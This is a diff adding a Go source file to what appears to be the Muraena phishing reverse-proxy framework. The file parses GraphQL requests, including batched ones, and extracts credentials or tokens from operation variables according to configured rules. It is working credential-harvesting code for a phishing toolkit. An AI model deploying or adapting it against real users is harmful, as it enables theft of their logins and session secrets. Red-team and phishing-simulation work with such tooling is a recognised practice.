@@ -0,0 +1,133 @@
+package tracking
+
+import (
+	"encoding/json"
+	"net/http"
+	"regexp"
+	"strconv"
+	"strings"
+
+	"github.com/muraenateam/muraena/session"
+)
+
+// graphQLOperationName extracts the operation name from the query, when the request does not send it
+var graphQLOperationName = regexp.MustCompile(`^\s*(?:#[^\n]*\n\s*)*(?:query|mutation|subscription)\s+([_A-Za-z][_0-9A-Za-z]*)`)
+
+// graphQLOperation is a GraphQL operation, as sent in the body of a POST or in the query of a GET
+type graphQLOperation struct {
+	OperationName string                 `json:"operationName"`
+	Query         string                 `json:"query"`
+	Variables     map[string]interface{} `json:"variables"`
+}
+
+// graphQLSecret is a secret found in a GraphQL operation
+type graphQLSecret struct {
+	Label string
+	Value string
+}
+
+// graphQLOperations returns the operations of the request, the batched ones included
+func graphQLOperations(body string, request *http.Request) (operations []graphQLOperation) {
+	if request.Method == http.MethodGet {
+		query := request.URL.Query()
+		op := graphQLOperation{OperationName: query.Get("operationName"), Query: query.Get("query")}
+		if variables := query.Get("variables"); variables != "" {
+			if err := decodeJSON(variables, &op.Variables); err != nil {
+				return nil
+			}
+		}
+		operations = append(operations, op)
+	} else {
+		body = strings.TrimSpace(body)
+		switch {
+		case strings.HasPrefix(body, "["):
+			if err := decodeJSON(body, &operations); err != nil {
+				return nil
+			}
+		case strings.HasPrefix(body, "{"):
+			op := graphQLOperation{}
+			if err := decodeJSON(body, &op); err != nil {
+				return nil
+			}
+			operations = append(operations, op)
+		}
+	}
+
+	for i, op := range operations {
+		if op.OperationName == "" {
+			if m := graphQLOperationName.FindStringSubmatch(op.Query); m != nil {
+				operations[i].OperationName = m[1]
+			}
+		}
+	}
+	return operations
+}
+
+// decodeJSON decodes the numbers as json.Number, so that the numeric codes are kept as sent
+func decodeJSON(data string, v interface{}) error {
+	decoder := json.NewDecoder(strings.NewReader(data))
+	decoder.UseNumber()
+	return decoder.Decode(v)
+}
+
+// graphQLSecrets returns the secrets found in the variables of the operations
+func graphQLSecrets(rules []session.GraphQLSecret, operations []graphQLOperation) (secrets []graphQLSecret) {
+	for _, op := range operations {
+		if op.Variables == nil {
+			continue
+		}
+
+		for _, rule := range rules {
+			if !matchesOperation(rule.Operation, op.OperationName) {
+				continue
+			}
+
+			if value, ok := graphQLVariable(op.Variables, rule.Variable); ok && value != "" {
+				secrets = append(secrets, graphQLSecret{Label: rule.Label, Value: value})
+			}
+		}
+	}
+	return secrets
+}
+
+// matchesOperation checks the operation name, exactly or as a regular expression if enclosed in ^ and $
+func matchesOperation(expected, name string) bool {
+	if expected == "" {
+		return true
+	}
+
+	if strings.HasPrefix(expected, "^") && strings.HasSuffix(expected, "$") {
+		matched, _ := regexp.MatchString(expected, name)
+		return matched
+	}
+	return expected == name
+}
+
+// graphQLVariable returns the scalar value at the dot-separated path of the variables, the arrays being indexed
+func graphQLVariable(variables map[string]interface{}, path string) (string, bool) {
+	var value interface{} = variables
+	for _, key := range strings.Split(path, ".") {
+		switch node := value.(type) {
+		case map[string]interface{}:
+			value = node[key]
+		case []interface{}:
+			i, err := strconv.Atoi(key)
+			if err != nil || i < 0 || i >= len(node) {
+				return "", false
+			}
+			value = node[i]
+		default:
+			return "", false
+		}
+	}
+
+	switch v := value.(type) {
+	case string:
+		return v, true
+	case json.Number:
+		return v.String(), true
+	case bool:
+		return strconv.FormatBool(v), true
+	}
+	return "", false
+}